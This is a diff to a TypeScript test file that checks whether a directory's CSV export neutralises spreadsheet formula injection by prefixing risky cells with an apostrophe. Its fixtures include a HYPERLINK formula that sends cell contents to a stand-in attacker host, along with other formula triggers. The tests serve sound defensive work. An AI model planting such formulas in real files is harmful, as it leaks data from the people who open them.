@@ -1,9 +1,11 @@
 // The CSV export (CONTRACT §4) through its real loader: the file's headers and format,
-// RFC 4180 quoting of awkward names, and every page streamed.
+// RFC 4180 quoting of awkward names, formulas neutralised (CONTRACT §8), and every page
+// streamed.
 import { parse } from "csv-parse/sync";
 import { beforeAll, describe, expect, it } from "vitest";
 import { createSignatory } from "~/modules/directory/write.server";
-import { exportCsvText } from "~/modules/opendata/csv.server";
+import { csvCellValue, exportCsvText } from "~/modules/opendata/csv.server";
+import { loader as apiLoader } from "~/routes/api.v1.signatories.$slug";
 import { loader as csvLoader } from "~/routes/signatories[.]csv";
 import { useSeededDatabase } from "../helpers/db";
 import { loaderArgs } from "../helpers/remix";
@@ -16,6 +18,21 @@ const AWKWARD = {
   carriage: "Carriage\rReturn Labs",
   both: 'He said "hi",\r\nthen left',
   formula: "=Formula Security",
+};
+/** Cells a spreadsheet would run as formulas, and what the file must hold instead (§8). */
+const HOSTILE: Record<string, { name: string; cell: string }> = {
+  hyperlink: { name: '=HYPERLINK("http://evil.example/?l="&A1,"Open")', cell: `"'=HYPERLINK(""http://evil.example/?l=""&A1,""Open"")"` },
+  plus: { name: "+Plus Partners", cell: "'+Plus Partners" },
+  minus: { name: "-Minus Labs", cell: "'-Minus Labs" },
+  at: { name: "@At Security", cell: "'@At Security" },
+  tab: { name: "\tTab Systems", cell: "'\tTab Systems" },
+  cr: { name: "\rReturn Systems", cell: `"'\rReturn Systems"` },
+  // A name that already starts with ' and a trigger gets one more, so it reads back as it is.
+  quoted: { name: "'=Already Quoted", cell: "''=Already Quoted" },
+  quotes: { name: "''-Two Quotes", cell: "'''-Two Quotes" },
+  // Harmless starts are written as they are.
+  apostrophe: { name: "'Apostrophe Holdings", cell: "'Apostrophe Holdings" },
+  inside: { name: "Plus+Minus-Equals=At@", cell: "Plus+Minus-Equals=At@" },
 };
 const PRINCIPLES = ["stronger-defense", "no-offense", "capacity-building", "collective-action"];
 
@@ -38,6 +55,22 @@ beforeAll(async () => {
             pledges: PRINCIPLES.map((code) => ({ code, endorsed_on: "2025-01-15" })),
           },
           `awkward-${key}`,
+        );
+      }
+      for (const [key, { name }] of Object.entries(HOSTILE)) {
+        await createSignatory(
+          trx,
+          {
+            name,
+            website: `https://${key}.hostile.example`,
+            country: "NL",
+            sector: "other",
+            description: "Formula-like names for the CSV tests.",
+            joined_on: "2024-12-01",
+            founding: false,
+            pledges: PRINCIPLES.map((code) => ({ code, endorsed_on: "2024-12-01" })),
+          },
+          `hostile-${key}`,
         );
       }
     });
@@ -95,12 +128,33 @@ describe("the CSV file", () => {
     expect(text).toContain('"Carriage\rReturn Labs"');
     expect(text).toContain('"He said ""hi"",\r\nthen left"');
     const rows = parse(text, { columns: true }) as Record<string, string>[];
-    const names = new Map(rows.map((r) => [r.slug, r.name]));
+    const names = new Map(rows.map((r) => [r.slug, csvCellValue(r.name)]));
     expect(names.get("acme-quoted-and-co")).toBe(LATER.quoted);
     expect(names.get("tokyo-security")).toBe(LATER.japanese);
     for (const [key, name] of Object.entries(AWKWARD)) expect(names.get(`awkward-${key}`)).toBe(name);
     // Every record has the nine fields.
     expect(parse(text, { relax_column_count: false })).toHaveLength(rows.length + 1);
+  });
+
+  it("writes a cell that starts with =, +, -, @, a tab or a carriage return with a leading ' (CONTRACT §8)", async () => {
+    const { text } = await csv("?status=all");
+    for (const [key, { cell }] of Object.entries(HOSTILE)) {
+      const at = text.indexOf(`\r\nhostile-${key},`);
+      expect(at, key).toBeGreaterThan(0);
+      expect(text.slice(at + 2).startsWith(`hostile-${key},${cell},https://${key}.hostile.example,`), `${key}: ${cell}`).toBe(true);
+    }
+    // No field of any record starts with a trigger, quoted or not.
+    const fields = parse(text, { relax_column_count: false }) as string[][];
+    for (const record of fields) for (const field of record) expect(field, record[0]).not.toMatch(/^[=+\-@\t\r]/);
+    // Read back (as db:import does) every name is exactly what was stored.
+    const names = new Map(fields.map((r) => [r[0], csvCellValue(r[1])]));
+    for (const [key, { name }] of Object.entries(HOSTILE)) expect(names.get(`hostile-${key}`), key).toBe(name);
+    expect(names.get("awkward-formula")).toBe(AWKWARD.formula);
+  });
+
+  it("prefixes only the CSV: the JSON API gives the name as stored", async () => {
+    const response = await apiLoader(loaderArgs("/api/v1/signatories/hostile-hyperlink", { slug: "hostile-hyperlink" }));
+    expect(((await response.json()) as { data: { name: string } }).data.name).toBe(HOSTILE.hyperlink.name);
   });
 
   it("applies the directory's filters and order", async () => {
